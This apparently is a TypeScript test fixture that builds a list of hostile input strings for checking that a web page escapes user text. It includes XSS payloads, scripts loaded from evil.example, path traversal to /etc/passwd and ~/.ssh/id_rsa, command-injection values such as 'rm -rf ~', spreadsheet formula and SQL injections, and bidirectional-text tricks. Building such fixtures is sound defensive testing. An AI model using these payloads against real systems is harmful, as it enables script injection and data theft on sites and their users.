const HIT = "window.__hit=1";

/** Elements with attributes that run a script in a page that does not escape them. */
const HANDLERS = [
  ...["onerror", "onload", "onloadstart", "onfocus", "onmouseover", "onpointerenter", "onclick"].map(
    (event) => `<img src=x ${event}=${HIT}>`,
  ),
  ...["onload", "onbegin", "onfocusin", "onend", "onrepeat"].map((event) => `<svg ${event}=${HIT}>`),
  ...["onfocus", "onblur", "oninput", "onchange", "onkeydown"].map(
    (event) => `<input autofocus ${event}="${HIT}">`,
  ),
  ...["onstart", "onfinish", "onbounce"].map((event) => `<marquee ${event}=${HIT}>moving</marquee>`),
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}><summary>open</summary></details>`,
  `<video><source onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}>`,
  `<iframe onload=${HIT}></iframe>`,
  `<object data=x onerror=${HIT}></object>`,
  `<style onload=${HIT}></style>`,
  `<div style="animation:breathe 1s" onanimationstart=${HIT}>x</div>`,
  `<button autofocus onfocus=${HIT}>x</button>`,
  `<select autofocus onfocus=${HIT}></select>`,
  `" onmouseover="${HIT}`,
  `' onfocus='${HIT}' autofocus='`,
  `x" onerror="${HIT}" y="`,
  `\`onload=${HIT}\``,
];

const SCRIPTS = [
  `<script>${HIT}</script>`,
  `<SCRIPT>${HIT}</SCRIPT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</dd></dl><script>${HIT}</script>`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(document.domain)>`,
  `</textarea><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `--><script>${HIT}</script><!--`,
  `]]><script>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script\t>${HIT}</script\t>`,
  `<script/x>${HIT}</script>`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `';${HIT};//`,
  `";${HIT};//`,
  `\`;${HIT};//`,
  `);${HIT};(`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<template><script>${HIT}</script></template>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
];

const SCHEMES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `javascript://example.com/%0a${HIT}`,
  `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "//evil.example/path",
  "https://evil.example/?q=1",
  "http://[::1]/",
  "https://user:password@evil.example",
  "mailto:a@example.com?body=x",
  `[a link](javascript:${HIT})`,
  `[a link]( JAVASCRIPT:${HIT} )`,
  `[a link](data:text/html,<script>${HIT}</script>)`,
  `![a picture](https://evil.example/pixel.png)`,
  `![a picture](x" onerror="${HIT})`,
  `<a href="javascript:${HIT}">press</a>`,
  `<form action="javascript:${HIT}"><button>press</button></form>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<object data="https://evil.example"></object>`,
];

const PICTURES = [
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${HIT}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>press</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<svg><set attributeName=onload to=${HIT}></svg>`,
  "<img src=https://evil.example/pixel.png>",
  "<img srcset='https://evil.example/pixel.png 1x'>",
  "<picture><source srcset=https://evil.example/a.png></picture>",
];

const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/a.png)">x</div>`,
  `background:url(javascript:${HIT})`,
  `width:expression(${HIT})`,
  `} body { display: none } {`,
  `:root{--accent:red}`,
  `/**/ content: "x"; /*`,
];

const TEMPLATES = [
  `{{constructor.constructor('${HIT}')()}}`,
  "{{7*7}}",
  `\${${HIT}}`,
  "#{7*7}",
  "<%= 7*7 %>",
  "{% raw %}{{7*7}}{% endraw %}",
  "[[7*7]]",
  "@(7*7)",
  "{{=<% %>=}}",
  `{"__html":"<img src=x onerror=${HIT}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<b>x</b>"}}`,
  "{0} %s %d %n",
  "__proto__",
  "constructor",
  "toString",
  "[object Object]",
  "undefined",
  "null",
  "NaN",
  "true",
  "0",
  "[]",
  "2026-02-30",
];

const ENTITIES = [
  "&lt;script&gt;",
  "&#60;img src=x onerror=window.__hit=1&#62;",
  "&#x3c;b&#x3e;",
  "&amp;lt;",
  "&nbsp;&nbsp;x",
  "&copy;&notanentity;",
  "a & b < c > d",
  `"quotes" and 'more'`,
  "<b>bold</b> <i>and</i> <u>more</u>",
  "<!-- a comment -->",
  "<![CDATA[x]]>",
  "<?php echo 1 ?>",
];

/** Marks that turn the direction of a text, and signs without a width. */
const INVISIBLE = [
  "report\u202Efdp.exe",
  "\u202Eright to left\u202C",
  "\u2066isolated\u2069 text",
  "a\u2067b\u2069c\u2068d",
  "\u200Fmarked\u200E",
  "\u061Cmark",
  "שלום (עולם) <b>",
  "مرحبا <script>",
  "a\u200Bb\u200Cc\u200Dd",
  "x\u2060y\uFEFFz",
  "soft\u00ADhyphen",
  "Z\u0351\u0363\u036A\u0343a\u0338\u0322l\u0489g\u0321o\u0334",
  "line\u2028separator\u2029paragraph",
  "tag\u{E0041}\u{E0042}end",
];

const CONTROLS = [
  "\\0 \\x00 %00 &#0;",
  "\u2400 is a picture of NUL",
  "bell\u0007 and escape\u001B[31mred",
  "back\u0008space\u007F",
  "a\u0001b\u0002c",
  "first\r\nsecond",
  "first\nsecond\tthird",
  "\uFFFD replaced",
  "\uFFFE and \uFFFF",
  "private \uE000",
];

const PATHS = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32",
  "/etc/shadow",
  "C:\\Users\\x",
  "....//....//x",
  "%2e%2e%2f%2e%2e%2fx",
  "a/b/../../../c",
  "CON",
  "a?b#c&d=e",
  "name;rm -rf ~",
  "$(touch x)",
  "`id`",
  "x.html",
  "x.svg.old",
  "~/.ssh/id_rsa",
];

const CELLS = [
  `=HYPERLINK("https://evil.example","press")`,
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "'; drop table spaces; --",
  "1 or 1=1",
  '" or ""="',
];

const EMOJI = ["👩‍👩‍👧‍👦 family", "🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏽👍🏿", "🇩🇪🇯🇵", "1️⃣2️⃣", "𝒻𝒶𝓃𝒸𝓎 𝕥𝕖𝕩𝕥", "東京の港", "ﷺ"];

/** Cut to what a field takes; the start of each is its own. */
const LONG = [
  `L1${"x".repeat(5_000)}`,
  `L2${"W".repeat(5_000)}`,
  `L3${"漢".repeat(2_000)}`,
  `L4${"👩‍👩‍👧‍👦".repeat(400)}`,
  `L5${"<b>".repeat(1_500)}`,
  `L6${"a\u0301".repeat(2_000)}`,
  `L7${"/..".repeat(1_500)}`,
];

/** Texts that harm a page that does not treat them as text. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...[HANDLERS, SCRIPTS, SCHEMES, PICTURES, STYLES, TEMPLATES, ENTITIES].flat(),
  ...[INVISIBLE, CONTROLS, PATHS, CELLS, EMOJI, LONG].flat(),
];

/** Cuts a text to the length of a field, without half a character at its end. */
export function cut(value: string, maxChars: number): string {
  return value.slice(0, maxChars).replace(/\p{Surrogate}$/u, "");
}
